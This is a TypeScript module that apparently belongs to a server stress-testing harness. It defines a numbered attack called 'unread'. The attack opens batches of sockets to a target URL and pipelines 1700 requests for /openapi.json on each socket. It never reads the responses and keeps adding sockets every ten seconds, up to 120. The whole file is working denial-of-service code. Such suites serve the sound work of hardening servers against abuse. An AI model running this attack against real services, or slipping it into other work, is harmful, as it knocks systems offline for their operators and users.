/** 2: a stranger who asks for the largest page again and again, and reads none of it. */
import { connect, type Socket } from 'node:net';
import { sleep } from '../../storm/waiting.ts';
import type { Attack } from '../attack.ts';
import { requestOf } from '../line.ts';

const SOCKETS = 12;
const PIPELINED = 1700;
/** A socket that is not read does not hear that it was closed: so there are new ones, whatever became of the others. */
const AGAIN_MS = 10_000;
const MAX_SOCKETS = 10 * SOCKETS;
const LOOK_MS = 100;

export const unread: Attack = {
  number: 2,
  name: 'unread',
  parts: [
    {
      name: '',
      what: `${SOCKETS} sockets with ${PIPELINED} pipelined GET /openapi.json each, of which nothing is read`,
      async strike({ url }, isOver) {
        const { port, hostname } = new URL(url);
        const requests = Buffer.concat(Array(PIPELINED).fill(requestOf({ path: '/openapi.json' })));
        const sockets: Socket[] = [];
        for (let next = 0; !isOver(); await sleep(LOOK_MS)) {
          if (performance.now() < next || sockets.length >= MAX_SOCKETS) continue;
          next = performance.now() + AGAIN_MS;
          for (let n = 0; n < SOCKETS; n++) {
            const socket = connect(Number(port), hostname);
            socket.on('error', () => {});
            socket.pause();
            socket.write(requests);
            sockets.push(socket);
          }
        }
        const sent = sockets.filter(({ bytesWritten }) => bytesWritten > 0).length;
        for (const socket of sockets) socket.destroy();
        return { sockets: sent };
      },
    },
  ],
};
